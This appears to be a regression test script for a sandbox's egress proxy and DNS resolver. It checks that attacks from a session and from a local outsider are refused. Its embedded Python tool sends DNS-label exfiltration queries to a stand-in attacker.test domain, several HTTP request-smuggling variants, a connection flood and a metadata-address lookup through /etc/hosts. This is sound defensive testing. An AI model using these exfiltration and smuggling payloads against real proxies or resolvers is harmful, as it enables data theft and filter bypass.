# Attacks on egress by name (docs/network.md): the proxy and the resolver
# against a hostile session and against a local user outside it. The
# test's own servers (tests/helpers/attacksrv.py) run in a network
# namespace of its own on a /29 of 198.51.100.0/24: SRV is the allowed
# names' server and resolver, ATT an attacker's server that only a name
# under attacker.test resolves to. Each case checks what the kernel did (a
# TCP connect, an answer, a thread count) and the records.
. "$(dirname "$0")/../lib.sh"

need_root_cgroup2 egress-attacks "network namespaces and the BPF redirect"
for t in ip setpriv; do
	if ! command -v $t >/dev/null; then
		fail "egress-attacks: $t is missing (make deps installs it)"
		finish
		exit $?
	fi
done

NS=bbx-ea-$$
HOSTIF=bba$$h
daemon_scratch egress-attacks
chmod 755 "$TMPD"

# A /29 no interface or route of this host uses yet (others' tests may hold one).
BASE=$(free_net_block 8)
HOSTIP=198.51.100.$((BASE + 1))
SRV=198.51.100.$((BASE + 2))
ATT=198.51.100.$((BASE + 3))

cleanup_extra() {
	for p in $(ip netns pids "$NS" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
	ip netns del "$NS" 2>/dev/null
	ip link del "$HOSTIF" 2>/dev/null
}

if [ -z "$BASE" ] || ! ip netns add "$NS" || ! ip link add "$HOSTIF" type veth peer name bba$$n ||
	! ip link set bba$$n netns "$NS" || ! ip addr add $HOSTIP/29 dev "$HOSTIF" ||
	! ip link set "$HOSTIF" up || ! ip -n "$NS" addr add $SRV/29 dev bba$$n ||
	! ip -n "$NS" addr add $ATT/29 dev bba$$n ||
	! ip -n "$NS" link set bba$$n up || ! ip -n "$NS" link set lo up; then
	fail "egress-attacks: cannot make the test's network namespace $NS on 198.51.100.$BASE/29"
	finish
	exit $?
fi

DNSLOG="$TMPD/dns.log"
: >"$DNSLOG"
ip netns exec "$NS" "$PY" "$ROOT/tests/helpers/attacksrv.py" $SRV $ATT "$DNSLOG" "$TMPD/ready" \
	allowed.test=$SRV other.test=$SRV inside.wild.test=$SRV outside.wild.test=$SRV \
	>"$TMPD/srv.log" 2>&1 &
wait_file "$TMPD/ready" 10
if [ ! -s "$TMPD/ready" ]; then
	fail "egress-attacks: the test servers did not start: $(head -c 300 "$TMPD/srv.log")"
	finish
	exit $?
fi
cd "$WS" || exit 1

# box AUDIT RULES... -- CMD: one embedded session against the test resolver.
box() {
	audit=$1
	shift
	"$BPFBOX" run --audit "$audit" -w "$WS" --net-resolver $SRV --timeout 60 "$@"
}

# The sessions' programs: raw DNS questions, HTTP on one connection, many
# connections (tests/helpers/ holds the servers; these are the tools).
cat >"$WS/tool.py" <<EOF
import os, socket, struct, sys, time

def query(labels, server="$SRV"):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for l in labels:
        q += bytes([len(l)]) + l
    q += b"\\0" + struct.pack(">HH", 1, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(q, (server, 53))
    try:
        a = u.recv(1500)
    except OSError as e:
        return "no answer %s" % e
    addrs = [socket.inet_ntoa(a[i + 12:i + 16]) for i in range(len(q), len(a) - 15)
             if a[i:i + 2] == b"\\xc0\\x0c" and a[i + 10:i + 12] == b"\\0\\4"]
    return "rcode %d %s" % (a[3] & 15, " ".join(addrs))

def connect(addr, port=8080):
    s = socket.socket()
    s.settimeout(10)
    s.connect((addr, port))
    return s

def response(f):
    line = f.readline()
    if not line:
        return "closed"
    n = 0
    while True:
        h = f.readline()
        if h in (b"\\r\\n", b""):
            break
        if h.lower().startswith(b"content-length:"):
            n = int(h.split(b":")[1])
    return (line.split(b" ")[1] + b" " + f.read(n).strip().splitlines()[-1]).decode()

def get(addr, host):
    try:
        s = connect(addr)
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % host.encode())
        return response(s.makefile("rb"))
    except OSError as e:
        return "error %d" % e.errno

cmd = sys.argv[1]
if cmd == "hosts":
    for name in ("hosted.test", "other-hosted.test", "meta-hosted.test"):
        try:
            addr = socket.getaddrinfo(name, 8080, socket.AF_INET)[0][4][0]
        except OSError as e:
            print("%s: no address %s" % (name, e))
            continue
        print("%s: %s %s" % (name, addr, get(addr, name)))
if cmd == "nul":
    print("control:", query([b"allowed", b"test"]))
    print("control get:", get("$SRV", "allowed.test"))
    print("nul:", query([b"allowed", b"test\\0", b"exfil-DATA", b"attacker", b"test"]))
    print("dot:", query([b"allowed", b"test.exfil2", b"attacker", b"test"]))
    print("nul get:", get("$ATT", "allowed.test"))
elif cmd == "hold":
    print("control:", query([b"allowed", b"test"]), flush=True)
    open("held", "w").write("held\n")
    for i in range(600):
        try:
            open("go")
            break
        except OSError:
            time.sleep(0.05)
    print("inside:", query([b"inside", b"wild", b"test"]))
elif cmd == "many":
    print("control:", query([b"allowed", b"test"]), flush=True)
    held, served, refused = [], 0, 0
    for i in range(int(sys.argv[2])):
        try:
            s = connect("$SRV")
            s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            r = response(s.makefile("rb"))
        except OSError as e:
            r = "error %d" % e.errno
        if r.startswith("200 hello from allowed.test"):
            served += 1
            held.append(s)
        else:
            refused += 1
    print("served %d refused %d" % (served, refused), flush=True)
    open("counted", "w").write("counted\n")
    for i in range(600):
        try:
            open("go")
            break
        except OSError:
            time.sleep(0.05)
elif cmd == "keepalive":
    query([b"allowed", b"test"])
    def conn(first):
        s = connect("$SRV")
        return s, s.makefile("rb")
    def ask(name, data):
        s, f = conn(name)
        for i, d in enumerate(data):
            try:
                s.sendall(d)
                print("%s %d: %s" % (name, i, response(f)))
            except OSError as e:
                print("%s %d: error %s" % (name, i, e))
    G = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n"
    smuggled = G % b"other.test"
    ask("second", [G % b"allowed.test", G % b"other.test"])
    ask("body", [b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: %d\r\n\r\n%s"
                 % (len(smuggled), smuggled), G % b"allowed.test"])
    ask("binary", [b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n\r\n\0\n\r\0",
                   G % b"allowed.test"])
    ask("chunked", [b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                    b"%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled), G % b"allowed.test"])
    ask("clte", [b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled])
    ask("twohosts", [b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n"])
    ask("target", [G % b"allowed.test", b"GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"])
    ask("target2", [b"GET https://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"])
    ask("barelf", [G % b"allowed.test", b"GET / HTTP/1.1\nHost: other.test\n\n"])
    # What the first request's judgment used to let pass unread: a method
    # not in a list, an empty line first, a tool silent for over a second
    # (FIRST_DATA_MS) before it sends, a ClientHello in two TLS records.
    ask("trace", [b"TRACE / HTTP/1.1\r\nHost: other.test\r\n\r\n"])
    ask("crlf", [b"\r\n" + G % b"other.test"])
    s, f = conn("late")
    time.sleep(1.5)
    try:
        s.sendall(G % b"other.test")
        print("late 0:", response(f))
    except OSError as e:
        print("late 0: error %s" % e)
    s, f = conn("tls")
    try:
        s.sendall(b"\x16\x03\x01\x00\x04\x01\x00\x01\x00")
        print("tls 0: %r" % s.recv(100))
    except OSError as e:
        print("tls 0: error %s" % e)
    # Through HTTP_PROXY: a second host on the same proxy connection.
    pp = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
    s = socket.create_connection(("127.0.0.1", pp), timeout=10)
    f = s.makefile("rb")
    for i, h in enumerate((b"allowed.test", b"other.test")):
        try:
            s.sendall(b"GET http://%s:8080/ HTTP/1.1\r\nHost: %s:8080\r\n\r\n" % (h, h))
            print("proxy %d: %s" % (i, response(f)))
        except OSError as e:
            print("proxy %d: error %s" % (i, e))
    s = socket.create_connection(("127.0.0.1", pp), timeout=10)
    s.sendall(b"GET http://allowed.test:8080/ HTTP/1.1\r\nHost: other.test\r\n\r\n")
    print("proxyhost:", response(s.makefile("rb")))
elif cmd == "idle":
    query([b"allowed", b"test"])
    s = connect("$SRV")
    f = s.makefile("rb")
    t0 = time.monotonic()
    # Requests paced over longer than the idle timeout: never idle.
    while time.monotonic() - t0 < 3:
        s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        print("paced:", response(f))
        time.sleep(0.5)
    t0 = time.monotonic()
    s.settimeout(30)
    try:
        print("idle: got %r" % s.recv(100))
    except OSError as e:
        print("idle: error %d" % e.errno)
    print("after %.1f s" % (time.monotonic() - t0))
EOF

# The UDP port on 127.0.0.1 of process $1 (the session's resolver).
resolver_port() {
	"$PY" - "$1" <<'PY'
import os, sys
pid = sys.argv[1]
inodes = set()
for fd in os.listdir("/proc/%s/fd" % pid):
    try:
        l = os.readlink("/proc/%s/fd/%s" % (pid, fd))
    except OSError:
        continue
    if l.startswith("socket:["):
        inodes.add(l[8:-1])
for line in open("/proc/net/udp").readlines()[1:]:
    f = line.split()
    if f[1].startswith("0100007F:") and f[9] in inodes:
        print(int(f[1].split(":")[1], 16))
PY
}

# 1. A NUL byte (or a '.') inside a label: the name judged must be the
# name sent upstream. Before, "allowed\0test\0.exfil-DATA.attacker.test"
# was judged as allowed.test, sent upstream whole (the attacker's
# nameserver got the data), its answer cached as allowed.test's.
N1="$TMPD/nul.jsonl"
box "$N1" --net-allow allowed.test:8080 -- "$PY" tool.py nul >"$TMPD/out" 2>"$TMPD/err"
expect_grep "^control: rcode 0 $SRV\$" "$TMPD/out" "egress-attacks: control: allowed.test resolves in the session"
expect_grep '^control get: 200 hello from allowed.test' "$TMPD/out" \
	"egress-attacks: control: allowed.test is reached over HTTP"
expect_grep '^nul: rcode (1|5) *$' "$TMPD/out" "egress-attacks: a NUL byte inside a label is refused, no address"
expect_grep '^dot: rcode (1|5) *$' "$TMPD/out" "egress-attacks: a '.' inside a label is refused, no address"
expect_grep '^nul get: error 1$' "$TMPD/out" \
	"egress-attacks: the attacker's address stays unreachable (connect EPERM)"
if grep -q "b'allowed', b'test'\]" "$DNSLOG" && ! grep -q 'exfil' "$DNSLOG"; then
	ok "egress-attacks: the labels never reached the upstream resolver"
else
	fail "egress-attacks: upstream got: $(oneline "$DNSLOG")"
fi
check_events "$N1" "any(e['type'] == 'net.deny' and e['protocol'] == 'dns' and e['name'] == 'allowed.test\\\\000.exfil-DATA.attacker.test' and e['reason'].startswith('not a host name') for e in net) and any(e['type'] == 'net.deny' and e['name'] == 'allowed.test\\\\.exfil2.attacker.test' for e in net) and not any(e['type'] == 'net.allow' and e.get('address') == '$ATT' for e in net)" \
	"egress-attacks: net.deny records show the wire name with its NUL and dot escaped"

# 2. A query from outside the session: any local user can send UDP to the
# resolver's port. Before, it was answered (an open resolver for the
# session's names) and its answers entered the session's name cache.
O="$TMPD/outside.jsonl"
rm -f "$WS/held" "$WS/go"
"$BPFBOX" run --audit "$O" -w "$WS" --net-resolver $SRV --timeout 60 \
	--net-allow allowed.test:8080 --net-allow '*.wild.test:8080' -- "$PY" tool.py hold \
	>"$TMPD/hold.out" 2>"$TMPD/hold.err" &
RUNPID=$!
wait_file "$WS/held" 20
PORT=$(resolver_port $RUNPID | head -1)
if [ -z "$PORT" ]; then
	fail "egress-attacks: no resolver socket in bpfbox run ($RUNPID): $(oneline "$TMPD/hold.err")"
else
	setpriv --reuid 65534 --regid 65534 --clear-groups "$PY" - $PORT >"$TMPD/outsider.out" 2>&1 <<'PY'
import socket, struct, sys
q = struct.pack(">HHHHHH", 0x4343, 0x0100, 1, 0, 0, 0)
for l in (b"outside", b"wild", b"test"):
    q += bytes([len(l)]) + l
q += b"\0" + struct.pack(">HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(q, ("127.0.0.1", int(sys.argv[1])))
try:
    a = u.recv(1500)
    print("answer rcode %d" % (a[3] & 15))
except OSError:
    print("no answer")
PY
fi
touch "$WS/go"
wait $RUNPID
expect_grep "^control: rcode 0 $SRV\$" "$TMPD/hold.out" "egress-attacks: control: the session's own query is answered"
# The positive control after the outsider's query: the resolver still serves the session.
expect_grep "^inside: rcode 0 $SRV\$" "$TMPD/hold.out" \
	"egress-attacks: control: a later query of the session is answered"
expect_grep '^no answer$' "$TMPD/outsider.out" \
	"egress-attacks: a query from a local user outside the session gets no answer"
if grep -q "b'inside', b'wild', b'test'" "$DNSLOG" && ! grep -q "b'outside'" "$DNSLOG"; then
	ok "egress-attacks: the outsider's query never reached the upstream resolver"
else
	fail "egress-attacks: outsider: upstream got: $(oneline "$DNSLOG")"
fi
check_events "$O" "any(e['name'] == 'inside.wild.test' for e in net) and not any(e['name'] == 'outside.wild.test' for e in net)" \
	"egress-attacks: the outsider's query is in no record of the session"

# 2. Every request of a keep-alive connection is judged, not only the
# first: before, a second request for other.test (the same address as
# allowed.test) on a connection opened for allowed.test reached it.
K2="$TMPD/keepalive.jsonl"
box "$K2" --net-allow allowed.test:8080 -- "$PY" tool.py keepalive >"$TMPD/ka.out" 2>"$TMPD/ka.err"
cut -c1-120 "$TMPD/ka.out" | sed 's/^/# /'
expect_grep '^second 0: 200 hello from allowed.test' "$TMPD/ka.out" \
	"egress-attacks: control: the first request of a keep-alive connection is served"
expect_grep '^second 1: (403 bpfbox: egress to other.test port 8080 denied|closed|error)' "$TMPD/ka.out" \
	"egress-attacks: a second request for another host on the same connection is refused"
expect_grep '^body 1: 200 hello from allowed.test' "$TMPD/ka.out" \
	"egress-attacks: a request in a Content-Length body is body, and the next request is served"
expect_grep '^binary 1: 200 hello from allowed.test' "$TMPD/ka.out" \
	"egress-attacks: a body with NUL and bare LF bytes is body, and the next request is served"
expect_grep '^chunked 1: 200 hello from allowed.test' "$TMPD/ka.out" \
	"egress-attacks: a chunked body is framed, and the next request is served"
for c in clte twohosts target target2 barelf; do
	i=0
	[ $c = target ] || [ $c = barelf ] && i=1
	expect_grep "^$c $i: (400 |403 |closed|error)" "$TMPD/ka.out" \
		"egress-attacks: a request that cannot be framed beyond doubt ends the connection ($c)"
done
for c in trace crlf late; do
	expect_grep "^$c 0: (403 bpfbox: egress to other.test|closed|error)" "$TMPD/ka.out" \
		"egress-attacks: a request for another host is judged by its Host ($c)"
done
expect_grep "^tls 0: (b''|error \[Errno 104\])" "$TMPD/ka.out" \
	"egress-attacks: a ClientHello longer than its TLS record is refused, not judged by address"
expect_grep '^proxy 0: 200 hello from allowed.test' "$TMPD/ka.out" \
	"egress-attacks: control: a request through HTTP_PROXY is served"
expect_grep '^proxy 1: (closed|error)' "$TMPD/ka.out" \
	"egress-attacks: another host on the same HTTP_PROXY connection is not sent to the first's server"
expect_grep '^proxyhost: 403 ' "$TMPD/ka.out" \
	"egress-attacks: a proxy request whose Host names another host is refused"
if grep -q 'hello from other.test' "$TMPD/ka.out" || [ ! -s "$TMPD/ka.out" ]; then
	fail "egress-attacks: other.test was reached: $(oneline "$TMPD/ka.out" 900)"
else
	ok "egress-attacks: no request reached other.test"
fi
check_events "$K2" "any(e['type'] == 'net.deny' and e['protocol'] == 'tcp' and e['name_from'] == 'host' and e['name'] == 'other.test' and e['port'] == 8080 and e['rule'] is None for e in net) and any(e['type'] == 'net.deny' and e.get('reason', '').startswith('not framable') for e in net) and any(e['type'] == 'net.deny' and e['reason'].startswith('a TLS ClientHello not read whole') for e in net)" \
	"egress-attacks: the refused request and the unframable ones are net.deny records"

# The same through a daemon: its resolvers serve only their own session.
DA="$TMPD/daemon.jsonl"
if start_daemon "$DA" --group nogroup; then
	rm -f "$WS/held" "$WS/go"
	"$BPFBOX" run --daemon-socket "$SOCK" -w "$WS" --net-resolver $SRV --timeout 60 \
		--net-allow allowed.test:8080 --net-allow '*.wild.test:8080' -- "$PY" tool.py hold \
		>"$TMPD/dhold.out" 2>"$TMPD/dhold.err" &
	RUNPID=$!
	wait_file "$WS/held" 20
	for PORT in $(resolver_port $DPID); do
		setpriv --reuid 65534 --regid 65534 --clear-groups "$PY" - $PORT <<'PY' >>"$TMPD/doutsider.out" 2>&1
import socket, struct, sys
q = struct.pack(">HHHHHH", 0x4444, 0x0100, 1, 0, 0, 0)
for l in (b"doutside", b"wild", b"test"):
    q += bytes([len(l)]) + l
q += b"\0" + struct.pack(">HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(q, ("127.0.0.1", int(sys.argv[1])))
try:
    a = u.recv(1500)
    print("answer rcode %d" % (a[3] & 15))
except OSError:
    print("no answer")
PY
	done
	touch "$WS/go"
	wait $RUNPID
	expect_grep "^inside: rcode 0 $SRV\$" "$TMPD/dhold.out" \
		"egress-attacks: control: the daemon's resolver answers its session"
	if grep -q '^no answer$' "$TMPD/doutsider.out" && ! grep -q '^answer' "$TMPD/doutsider.out" &&
		! grep -q "b'doutside'" "$DNSLOG"; then
		ok "egress-attacks: the daemon's resolver drops a query from outside its session"
	else
		fail "egress-attacks: daemon: outsider got $(oneline "$TMPD/doutsider.out"); upstream: $(oneline "$DNSLOG")"
	fi
else
	fail "egress-attacks: the daemon did not get ready: $(oneline "$DERR")"
fi

# 3. Connections are threads of bpfbox run (or the daemon), outside the
# session's limits: before, 100 idle connections made 100 threads, held
# forever. Now at most 64 (MAX_CONNS) are open; the others are reset and
# counted in net.deny records.
L3="$TMPD/many.jsonl"
rm -f "$WS/counted" "$WS/go"
"$BPFBOX" run --audit "$L3" -w "$WS" --net-resolver $SRV --timeout 60 \
	--net-allow allowed.test:8080 -- "$PY" tool.py many 100 >"$TMPD/many.out" 2>"$TMPD/many.err" &
RUNPID=$!
wait_file "$WS/counted" 40
THREADS=$(awk '$1 == "Threads:" { print $2 }' /proc/$RUNPID/status 2>/dev/null)
touch "$WS/go"
wait $RUNPID
grep -o '"reason":"connection limit[^"]*"' "$L3" | sed 's/^/# /'
echo "# egress-attacks: 100 connections held by the session: bpfbox run has ${THREADS:-?} threads"
expect_grep '^served 64 refused 36$' "$TMPD/many.out" \
	"egress-attacks: of 100 open connections 64 are served, the others refused"
if [ -n "$THREADS" ] && [ "$THREADS" -le 80 ]; then
	ok "egress-attacks: bpfbox run's threads stay bounded ($THREADS with 64 connections open)"
else
	fail "egress-attacks: bpfbox run has ${THREADS:-?} threads with 100 connections open"
fi
check_events "$L3" "sum(1 for e in net if e['type'] == 'net.deny' and e.get('reason', '').startswith('connection limit: 64 open')) >= 2 and any('32 connections refused so far' in e.get('reason', '') for e in net)" \
	"egress-attacks: the refusals are counted in net.deny records (1, 2, 4... 32 so far)"

# An idle connection ends after the idle timeout ($BPFBOX_NET_IDLE_S, 600
# s by default; 2 s here), not while requests keep coming.
I3="$TMPD/idle.jsonl"
BPFBOX_NET_IDLE_S=2 box "$I3" --net-allow allowed.test:8080 -- "$PY" tool.py idle >"$TMPD/idle.out" 2>"$TMPD/idle.err"
if [ "$(grep -c '^paced: 200 hello from allowed.test' "$TMPD/idle.out")" -ge 5 ]; then
	ok "egress-attacks: a connection busy for longer than the idle timeout stays open"
else
	fail "egress-attacks: paced requests: $(oneline "$TMPD/idle.out") $(oneline "$TMPD/idle.err")"
fi
expect_grep "^idle: (got b''|error 104)\$" "$TMPD/idle.out" "egress-attacks: an idle connection is closed by the proxy"

# 4. Names of /etc/hosts (issue 31): the C library answers them from the
# file and the session's resolver never hears of them; an allowed one is
# reached, another is not. The hosts file is the test's, bound over
# /etc/hosts in a mount namespace of its own (the host's is untouched).
# meta-hosted.test: an allowed name the file maps to the metadata address,
# which no name may reach (the rebinding rule holds for the file too).
printf '%s hosted.test\n%s other-hosted.test\n169.254.169.254 meta-hosted.test\n' "$SRV" "$SRV" \
	>"$TMPD/hosts"
H4="$TMPD/hosts.jsonl"
unshare -m --propagation private sh -c 'mount --bind "$1" /etc/hosts && shift && exec "$@"' sh \
	"$TMPD/hosts" "$BPFBOX" run --audit "$H4" -w "$WS" --net-resolver $SRV --timeout 60 \
	--net-allow hosted.test:8080 --net-allow meta-hosted.test:8080 -- "$PY" tool.py hosts >"$TMPD/hosts.out" 2>"$TMPD/hosts.err"
expect_grep "^hosted.test: $SRV 200 hello from hosted.test\$" "$TMPD/hosts.out" \
	"egress-attacks: an allowed name of /etc/hosts is reached by that name"
# It shares the allowed name's address: the connect is the allowed
# name's, the request for it is refused by its Host.
expect_grep "^other-hosted.test: $SRV (error 1|403 .*)\$" "$TMPD/hosts.out" \
	"egress-attacks: a name of /etc/hosts with no rule stays refused"
expect_grep "^meta-hosted.test: 169.254.169.254 error 1\$" "$TMPD/hosts.out" \
	"egress-attacks: an allowed name /etc/hosts maps to the metadata address is refused (connect EPERM)"

# Every record, the new reasons and escaped names among them, validates.
VALIDATE="$ROOT/tools/validate-events.js"
node "$VALIDATE" /dev/null >/dev/null 2>&1 || "$ROOT/tools/npm-deps.sh" >/dev/null 2>&1
expect_schema "egress-attacks: every record validates against the schema" "$N1" "$O" "$K2" "$L3" "$I3" "$H4"

finish
